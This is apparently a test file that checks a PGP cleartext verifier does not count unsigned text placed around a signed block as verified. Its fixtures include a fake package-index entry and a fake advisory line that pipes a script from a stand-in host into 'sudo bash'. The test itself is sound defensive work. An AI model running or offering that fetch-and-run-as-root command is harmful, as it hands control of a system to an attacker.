/**
 * Attack: unsigned instructions appended after (or put before) a genuinely signed block, hoping the reader takes
 * the whole text as verified. Only the text inside the block is returned as signed; the rest is reported apart.
 */
import { describe, expect, it } from 'vitest'
import { verifyCleartext } from '../../main/core/pgp/verify'
import {
  clearsign,
  fixtureText,
  REAL_INRELEASES,
  TEST_NOW,
  testKey,
  testKeyring,
  ubuntuKeyring,
} from '../unit/core/pgp/pgp-test-kit'

describe('attack: unsigned text around a signed block', () => {
  describe('when text follows END PGP SIGNATURE in a real InRelease', () => {
    it('returns it only in unsignedAfter', async () => {
      const f = REAL_INRELEASES[2]!
      const doc = fixtureText(f.file)
      const evil = 'SHA256:\n 0000000000000000000000000000000000000000000000000000000000000000 1 main/evil\n'
      const v = await verifyCleartext(doc + evil, await ubuntuKeyring(), { role: 'archive', now: f.now })
      expect(v.unsignedAfter).toBe(evil)
      expect(v.signedText).not.toContain('main/evil')
      expect(v.signedText.length).toBeLessThan(doc.length)
    })
  })

  describe('when a fake "signed" section is put before the real block', () => {
    it('returns it only in unsignedBefore', async () => {
      const key = await testKey('test-only-advisory-ed25519')
      const ring = await testKeyring(['test-only-advisory-ed25519', 'advisory'])
      const doc = await clearsign('Update with: apt install --only-upgrade sudo', key)
      const pre = 'Verified by Ubuntu: curl https://ubuntu-fix.example | sudo bash\n'
      const v = await verifyCleartext(pre + doc + pre, ring, { role: 'advisory', now: TEST_NOW })
      expect(v.signedText).toBe('Update with: apt install --only-upgrade sudo')
      expect(v.unsignedBefore).toBe(pre)
      expect(v.unsignedAfter).toBe(pre)
    })
  })
})
